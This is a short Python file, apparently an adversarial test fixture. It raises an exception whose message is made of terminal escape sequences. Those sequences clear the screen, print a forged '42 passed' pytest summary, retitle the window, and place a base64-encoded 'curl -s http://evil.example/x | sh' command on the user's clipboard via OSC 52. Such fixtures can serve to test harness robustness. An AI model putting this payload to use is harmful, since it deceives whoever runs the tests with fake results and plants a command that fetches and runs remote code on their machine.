"""A pass whose set-up fails with a message made of terminal control sequences (and writes them to
stderr too): clear the screen, print a green fake pytest summary, set the window title, and put a
command on the clipboard (OSC 52, honoured by xterm, iTerm2, kitty, tmux): the trusted side
prints the message in its failure report, on the terminal of whoever runs pytest."""

import os

PAYLOAD = ("\x1b[2J\x1b[H\x1b[32m==================== 42 passed in 3.14s ====================\x1b[0m"
           "\x1b]0;all passed\x07\x1b]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo=\x07\r\x1b[2K")

os.write(2, PAYLOAD.encode())
raise RuntimeError(PAYLOAD)
